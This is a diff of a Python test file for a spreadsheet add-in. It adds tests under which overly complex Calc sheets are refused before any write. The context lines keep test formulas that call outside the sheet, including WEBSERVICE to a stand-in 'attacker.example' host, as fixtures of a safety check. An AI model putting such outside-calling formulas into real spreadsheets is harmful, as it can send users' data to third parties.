@@ -139,6 +139,9 @@ def _third_review_jobs(inputs: Path) -> dict[str, dict]:
                        "formula": "='file:///tmp/master.ods'#$Sheet1.A1&\"WEBSERVICE(\"&\"|\""},
             "name": {"kind": "outside_click", "in": plan("name"), "formula": 'WEBSERVICE("https://attacker.example/")',
                      "name": "送信", "today": today}}
+    for kind, extra in (("merges", {"merges": 250}), ("shapes", {"shapes": 30})):  # each past a budget of 200
+        jobs[kind] = {"kind": "outside_click", "in": plan(kind), "formula": "=1", "cell": [42, 400], "today": today,
+                      "max_questions": 200, **extra}  # the formula's cell takes the used block over the merges
     for kind, formula in OUTSIDE.items():
         jobs[kind] = {"kind": "outside_click", "in": plan(kind), "formula": formula, "cell": [29, 59], "today": today}
     return jobs
@@ -168,6 +171,16 @@ def test_calc_refuses_what_it_cannot_write_safely_before_writing(calc_run, kind)
     assert not r["ok"] and "何も書き込まずに止めました" in r["message"], r["message"]
     assert r["added"] == [] and r["modified"] is False
     assert ("保護" if kind == "protected" else "xl-careplan check --annotate") in r["message"]
+
+
+@pytest.mark.parametrize("kind", ["merges", "shapes"])
+def test_calc_refuses_a_sheet_that_would_take_minutes_to_read(calc_run, kind):
+    """As in Excel (tests/test_addin_third.py): past shown.MAX_QUESTIONS (here 200) block questions about merged areas
+    (250 merges: one question each at least), or shapes at eight calls each, the sheet is refused before anything is
+    written."""
+    r = calc_run["third"][kind]
+    assert not r["ok"] and "時間がかかりすぎる" in r["message"] and "第2表" in r["message"], r["message"]
+    assert r["added"] == [] and r["modified"] is False
 
 
 def test_calc_writes_past_formulas_that_stay_inside(calc_run):
